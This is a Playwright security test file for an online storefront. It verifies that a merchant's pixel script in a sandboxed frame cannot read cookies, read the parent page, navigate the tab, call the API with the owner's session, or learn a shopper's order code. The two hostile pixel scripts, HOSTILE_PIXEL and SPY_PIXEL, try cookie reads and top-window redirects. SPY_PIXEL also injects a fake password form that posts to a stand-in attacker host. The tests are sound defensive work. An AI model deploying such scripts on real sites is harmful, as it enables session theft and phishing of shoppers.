import { randomBytes } from 'node:crypto';
import { type APIRequestContext, expect, type Frame, type Page, test } from '@playwright/test';
import { login, newBrowser } from './support/casillero.ts';
import { createUser } from './support/users.ts';

// Issue 22 §6: a merchant's pixel runs in the storefront's sandboxed frame. A hostile one, on the
// page of a shopper who is also the store's owner (logged in, session cookie present), tries to
// read the cookies, read the parent page, navigate the top window and call the API with the
// owner's session: every attempt fails, and it still receives the events it is meant to.
// Spanish only: language is not the behaviour here.

test.describe.configure({ timeout: 120_000 });

type Hostile = { cookie: string; parent: string; navigate: string; api: string; events: string[] };

const HOSTILE_PIXEL = `<script>
window.hostile = { events: [], api: 'pending' };
try { hostile.cookie = 'read:' + document.cookie; } catch (e) { hostile.cookie = 'blocked:' + e.name; }
try { hostile.parent = 'read:' + window.parent.document.title; } catch (e) { hostile.parent = 'blocked:' + e.name; }
try { window.top.location.href = 'https://example.invalid/stolen'; hostile.navigate = 'tried'; } catch (e) { hostile.navigate = 'blocked:' + e.name; }
fetch('/api/v1/store', { credentials: 'include' }).then((r) => r.text()).then((t) => { hostile.api = 'read:' + t; }, (e) => { hostile.api = 'blocked:' + e.name; });
tiendabox.on((event) => hostile.events.push(event.type));
</script>`;

async function send(request: APIRequestContext, method: 'post' | 'put', url: string, data: object) {
  const response = await request[method](url, { data });
  expect(response.status(), `${url}: ${await response.text()}`).toBeLessThan(300);
  return (await response.json()) as { id: number };
}

const pixelFrame = async (page: Page): Promise<Frame> => {
  await expect.poll(() => page.frames().some((frame) => frame.url().includes('/pixel-frame.html'))).toBe(true);
  return page.frames().find((frame) => frame.url().includes('/pixel-frame.html'))!;
};

const hostileOf = (frame: Frame) => frame.evaluate(() => (window as unknown as { hostile?: Hostile }).hostile ?? null);

test('a hostile pixel in the sandboxed frame can read, navigate and call nothing, and gets its events', async ({ browser }) => {
  const owner = createUser('client', 'pixel', 'Pía', 'Pixel');
  const { context, page } = await newBrowser(browser, 'es');
  try {
    await login(page, 'es', owner);
    const slug = `e2e-pixel-${randomBytes(3).toString('hex')}`;
    await send(page.request, 'post', '/api/v1/store', { name: 'Tienda Pixel', slug, section: 'clothing' });
    await send(page.request, 'put', '/api/v1/store/settings', { published: true, section: 'clothing', name: 'Tienda Pixel', description: 'Prueba del píxel.' });
    await send(page.request, 'put', '/api/v1/store/analytics', { keywords: '', analyticsScript: '', pixelScript: HOSTILE_PIXEL });
    const { id: category } = await send(page.request, 'post', '/api/v1/categories', { name: 'Ropa', enabled: true });
    await send(page.request, 'post', '/api/v1/products', { name: 'Gorra', sku: 'GO-1', categoryId: category, priceCents: 1200, stock: 5, enabled: true });

    const productUrl = `/shop/${slug}/product/gorra`;
    await page.goto(productUrl);
    await expect(page.getByRole('heading', { level: 1, name: 'Gorra' })).toBeVisible();
    const frame = await pixelFrame(page);
    await expect.poll(async () => (await hostileOf(frame))?.api, { message: 'the API call settles' }).not.toBe('pending');
    await expect.poll(async () => (await hostileOf(frame))?.events).toEqual(['page_viewed', 'product_viewed']);
    const hostile = (await hostileOf(frame))!;
    expect(hostile.cookie).toMatch(/^blocked:/);
    expect(hostile.parent).toMatch(/^blocked:/);
    expect(hostile.api).toMatch(/^blocked:/);
    // Chromium refuses the top navigation (an exception or a console error, by version): the page stays.
    expect(page.url()).toContain(productUrl);
    await expect(page.getByRole('heading', { level: 1, name: 'Gorra' })).toBeVisible();

    // The frame's own headers (sandboxed, framed only by our pages, refused unless framed) are
    // server/modules/shop/shop-pixel.routes.test.ts's; opening it as a page is the next test's.

    // The search page tells the pixel what was searched.
    await page.goto(`/shop/${slug}/search?q=gorra`);
    const searchFrame = await pixelFrame(page);
    await expect.poll(async () => (await hostileOf(searchFrame))?.events).toEqual(['page_viewed', 'search']);
  } finally {
    await context.close();
  }
});

// Issue 36 §2–3: the order page's address holds the shopper's order code, the key to their name,
// address and invoice. A pixel on that page reports what it can learn of where it is
// (`document.referrer`, its own address, the events) and tries to move the tab: it learns no code
// and moves nothing. Opened as a page of its own, the frame's address runs no merchant script (it
// once drew whatever the merchant wrote under our address: a fake login, a redirect away).

type Spy = { referrer: string; href: string; top: boolean; navigate: string[]; events: string[] };

const SPY_PIXEL = `<script>
window.spy = { referrer: document.referrer, href: location.href, top: window.top === window, navigate: [], events: [] };
if (spy.top) document.addEventListener('DOMContentLoaded', () => { document.body.innerHTML = '<h1>Inicia sesión en Tiendabox</h1><form action="https://example.invalid/steal"><label>Contraseña <input type="password" name="p"></label></form>'; });
else {
  try { window.top.location.href = 'https://example.invalid/top'; spy.navigate.push('top:tried'); } catch (e) { spy.navigate.push('top:blocked:' + e.name); }
  try { const a = document.createElement('a'); a.href = 'https://example.invalid/link'; a.target = '_top'; document.documentElement.append(a); a.click(); spy.navigate.push('link:tried'); } catch (e) { spy.navigate.push('link:blocked:' + e.name); }
}
tiendabox.on((event) => spy.events.push(JSON.stringify(event)));
</script>`;

const spyOf = (frame: Frame) => frame.evaluate(() => (window as unknown as { spy?: Spy }).spy ?? null);

test('the pixel on the order page learns no order code, and its frame opened as a page runs nothing', async ({ browser }) => {
  const owner = createUser('client', 'pixelref', 'Pía', 'Referer');
  const slug = `e2e-pixref-${randomBytes(3).toString('hex')}`;
  const seller = await newBrowser(browser, 'es');
  let productId: number;
  try {
    await login(seller.page, 'es', owner);
    await send(seller.page.request, 'post', '/api/v1/store', { name: 'Tienda Referer', slug, section: 'clothing' });
    await send(seller.page.request, 'put', '/api/v1/store/settings', { published: true, section: 'clothing', name: 'Tienda Referer', description: 'Prueba del referer.' });
    await send(seller.page.request, 'put', '/api/v1/store/analytics', { keywords: '', analyticsScript: '', pixelScript: SPY_PIXEL });
    const { id: category } = await send(seller.page.request, 'post', '/api/v1/categories', { name: 'Ropa', enabled: true });
    ({ id: productId } = await send(seller.page.request, 'post', '/api/v1/products', { name: 'Gorra', sku: 'GO-1', categoryId: category, priceCents: 1200, stock: 5, enabled: true }));
  } finally {
    await seller.context.close();
  }

  // A shopper, not logged in, places an order (the form posts a browser sends) and lands on its page.
  const { context, page } = await newBrowser(browser, 'es');
  try {
    const added = await page.request.post(`/shop/${slug}/cart`, { form: { intent: 'add', product: String(productId), variant: '', quantity: '1' }, maxRedirects: 0 });
    expect(added.status()).toBe(303);
    const placed = await page.request.post(`/shop/${slug}/checkout`, {
      form: { name: 'Ana Compradora', email: 'ana.referer@example.com', phone: '0991234567', documentType: 'cedula', documentNumber: '1710034065', address: 'Av. Amazonas N34-12', city: 'Quito', province: 'Pichincha', canton: 'Quito', notes: '', paymentMethod: 'cash_on_delivery' },
      maxRedirects: 0,
    });
    expect(placed.status(), await placed.text()).toBe(303);
    const orderUrl = placed.headers().location!;
    const code = new URL(orderUrl, 'http://local.invalid').searchParams.get('code')!;
    expect(code).toMatch(/^[0-9a-f-]{36}$/);

    await page.goto(orderUrl);
    await expect(page.getByRole('heading', { level: 1, name: /^Pedido/ })).toBeVisible();
    const frame = await pixelFrame(page);
    await expect.poll(async () => (await spyOf(frame))?.events.some((event) => event.includes('checkout_completed')), { message: 'the order placed reaches the pixel' }).toBe(true);
    const spy = (await spyOf(frame))!;
    expect(spy.top).toBe(false);
    // What the merchant's script can read of where it is: no code anywhere, no referrer at all.
    expect(spy.referrer).toBe('');
    expect(spy.href).not.toContain(code);
    expect(spy.events.join('\n')).not.toContain(code);
    expect(spy.navigate).toHaveLength(2);
    // Chromium refuses both ways to the top (an exception or a console error, by version): the tab stays.
    expect(page.url()).toContain(orderUrl);
    await expect(page.getByRole('heading', { level: 1, name: /^Pedido/ })).toBeVisible();

    // The frame's address opened in the tab: a plain refusal, no merchant script, no merchant page.
    const direct = await page.goto(`/shop/${slug}/pixel-frame.html`);
    expect(direct!.status()).toBe(404);
    await expect(page.locator('body')).toHaveText('Not found');
    expect(await page.evaluate(() => 'spy' in window)).toBe(false);
    await expect(page.getByRole('heading', { name: 'Inicia sesión en Tiendabox' })).toHaveCount(0);
  } finally {
    await context.close();
  }
});
